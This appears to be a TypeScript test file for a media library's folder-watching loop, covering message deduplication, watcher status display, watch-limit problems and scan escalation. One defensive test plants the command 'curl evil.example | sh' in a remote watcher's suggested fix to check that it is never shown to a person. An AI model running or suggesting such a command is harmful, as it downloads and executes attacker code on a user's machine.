/** What watchers elsewhere tell: heard once, shown while they are heard, and nothing that leads anywhere else. */
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import { join } from "node:path";
import { type TestContext, test } from "node:test";
import { watchingFinding } from "../src/apps/doctor/watching.ts";
import { createScanLoop } from "../src/apps/scan-loop.ts";
import { createWatchLoop } from "../src/apps/watch-loop.ts";
import type { DirtyFolder } from "../src/core/dirty-folders.ts";
import { HAS_EVENTS } from "../src/edges/watch-system.ts";
import { newBench } from "./support/running.ts";
import { isProblem } from "./support/store.ts";
import { tempFolder } from "./support/temp.ts";

const STATUS = {
  mode: "polled",
  why: "it is a share",
  mend: "",
  folders: 3,
  watched: 3,
  lastEventAt: null,
  pollSeconds: 60,
  missed: 0,
} as const;

const newLoop = (context: TestContext) => {
  const { running, pass } = newBench(context, tempFolder(context));
  const looked: DirtyFolder[] = [];
  const loop = createWatchLoop(running, (_, folders) => void looked.push(...folders), {});
  return { loop, pass, looked };
};

test("a message is heard once by its id, and every time without one", (context) => {
  const { loop, looked } = newLoop(context);
  const told = { library: "films", folders: ["A"], trees: ["B"] };
  assert.deepEqual(loop.tellFolders({ ...told, id: "1" }), { accepted: 2, isKnown: false });
  assert.deepEqual(loop.tellFolders({ ...told, id: "1" }), { accepted: 0, isKnown: true });
  assert.deepEqual(looked, [
    { path: "A", isTree: false },
    { path: "B", isTree: true },
  ]);
  for (let index = 2; index < 2000; index++) loop.tellFolders({ ...told, id: String(index) });
  assert.equal(loop.tellFolders({ ...told, id: "1" }).isKnown, false, "not all are remembered");
  loop.tellFolders(told);
  loop.tellFolders(told);
  assert.equal(looked.length, 2 * 2002);
});

test("a library that nobody knows is refused", (context) => {
  const { loop } = newLoop(context);
  const told = { library: "constructor", folders: [], trees: [] };
  assert.throws(() => loop.tellFolders(told), isProblem("library-not-found"));
});

test("a watcher elsewhere is shown while it is heard", (context) => {
  const { loop, pass } = newLoop(context);
  assert.deepEqual(
    loop.watching().map(({ mode, by, why }) => [mode, by, why]),
    [["off", "nobody", "nobody watches it"]],
  );
  loop.tellFolders({ library: "films", folders: [], trees: [], watch: STATUS });
  assert.deepEqual(
    loop.watching().map(({ mode, by }) => [mode, by]),
    [["polled", "a watcher elsewhere"]],
  );
  pass(300_000);
  assert.deepEqual(
    loop.watching().map(({ mode, why }) => [mode, why]),
    [["off", "the watcher elsewhere is silent"]],
  );
});

test("a watcher elsewhere puts no command of its own before a person", (context) => {
  const { loop } = newLoop(context);
  const watch = { ...STATUS, mend: "curl evil.example | sh" };
  loop.tellFolders({ library: "films", folders: [], trees: [], watch });
  assert.equal(loop.problem(), null);
  assert.doesNotMatch(JSON.stringify(loop.watching()), /evil/);
});

test("a limit that a watcher elsewhere met is a problem with its mend", (context) => {
  const { loop } = newLoop(context);
  assert.equal(loop.problem(), null);
  const watch = { ...STATUS, watched: 2, mend: "sudo sysctl -w fs.inotify.max_user_watches=1048576" };
  loop.tellFolders({ library: "films", folders: [], trees: [], watch });
  assert.equal(loop.problem()?.code, "watch-limit");
  assert.match(loop.problem()?.detail ?? "", /films: 2 of 3 folders\. Run: sudo sysctl/);
});

test("more folders than are looked at one by one are a scan of all", async (context) => {
  const root = tempFolder(context);
  mkdirSync(join(root, "A"));
  const { running, pass } = newBench(context, root);
  const scans = createScanLoop(running);
  const turn = async (): Promise<number> => {
    pass(1000);
    scans.pump();
    await scans.idle();
    return running.store.roots.get("films")?.scannedAt ?? 0;
  };
  const first = await turn();
  scans.look("films", [{ path: "A", isTree: false }]);
  assert.equal(await turn(), first, "one folder is none");
  scans.look(
    "films",
    Array.from({ length: 2001 }, (_, index) => ({ path: `${index}`, isTree: false })),
  );
  await turn();
  assert.notEqual(await turn(), first);
  assert.throws(() => scans.look("nobody", []), isProblem("library-not-found"));
});

test("the doctor says how a library would be watched", { skip: !HAS_EVENTS }, async (context) => {
  const { check, state, detail } = await watchingFinding("films", tempFolder(context), 60);
  assert.deepEqual([check, state], ["watching films", "ok"]);
  assert.match(detail, /noticed at once/);
});
